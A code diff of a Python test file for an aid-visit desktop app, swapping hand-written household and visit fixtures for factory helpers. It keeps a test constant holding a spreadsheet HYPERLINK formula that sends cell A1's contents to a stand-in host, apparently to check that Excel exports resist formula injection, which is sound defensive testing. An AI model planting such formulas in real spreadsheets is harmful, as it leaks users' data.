@@ -19,6 +19,7 @@ from typing import Any
 
 import openpyxl
 import pytest
+from factories import make_household_line, make_visit_line
 
 from sp_desktop.core.base import files
 from sp_desktop.core.base.errors import DiskFullError, UserFacingError
@@ -58,58 +59,33 @@ AMPENAN_LABEL = "Kelurahan Ampenan Selatan, Kec. Ampenan, Kota Mataram"
 TAMAN = "5271021004"
 TAMAN_LABEL = "Kelurahan Taman Sari, Kec. Ampenan, Kota Mataram"
 HELPER_NIP = "198507142010011002"  # 18 digits
+# Where the lines of these tests stand (the factories' own numbers and place differ).
+_HERE: dict[str, Any] = {
+    "no_kk": "5271010101200003",
+    "head_nik": "5271014507850001",
+    "kelurahan_code": AMPENAN,
+    "kelurahan_label": AMPENAN_LABEL,
+}
 INJECTION = '=HYPERLINK("http://contoh.invalid/?q="&A1,"Klik")'
 
 
 def household(**changes: Any) -> HouseholdLine:
-    line = HouseholdLine(
-        household_id="h-1",
-        no_kk="5271010101200003",
-        head_nik="5271014507850001",
-        head_name="Baiq Nurul Aini",
-        kelurahan_code=AMPENAN,
-        kelurahan_label=AMPENAN_LABEL,
-        address="Jl. Saleh Sungkar No. 12",
-        rt="003",
-        rw="011",
-        members=4,
-        help_reason=HelpReason.LANSIA,
-        status=Outcome.BERHASIL,
-        last_visit_at=datetime(2020, 3, 2, 9, 15),
-        failure_reason=None,
-        revisit_date=None,
-        visits=1,
-        numbers_hidden=False,
-        erased=False,
+    """make_household_line's household, visited successfully, in Ampenan Selatan."""
+    line = make_household_line(
+        1, **_HERE, status=Outcome.BERHASIL, failure_reason=None, revisit_date=None
     )
     return replace(line, **changes)
 
 
 def visit(**changes: Any) -> VisitLine:
-    line = VisitLine(
-        visit_id="v-1",
-        visited_at=datetime(2020, 3, 2, 9, 15),
+    """make_visit_line's visit, successful, with two proof files."""
+    line = make_visit_line(
+        1,
+        **_HERE,
         outcome=Outcome.BERHASIL,
         failure_reason=None,
-        failure_note="",
         revisit_date=None,
-        note="",
-        helper_name="Lalu Ahmad Fauzi",
         helper_nip=HELPER_NIP,
-        post_name="Posko Kantor Lurah",
-        household_id="h-1",
-        no_kk="5271010101200003",
-        head_nik="5271014507850001",
-        head_name="Baiq Nurul Aini",
-        kelurahan_code=AMPENAN,
-        kelurahan_label=AMPENAN_LABEL,
-        address="Jl. Saleh Sungkar No. 12",
-        rt="003",
-        rw="011",
-        members=4,
-        help_reason=HelpReason.LANSIA,
-        numbers_hidden=False,
-        erased=False,
         proof_files=2,
     )
     return replace(line, **changes)
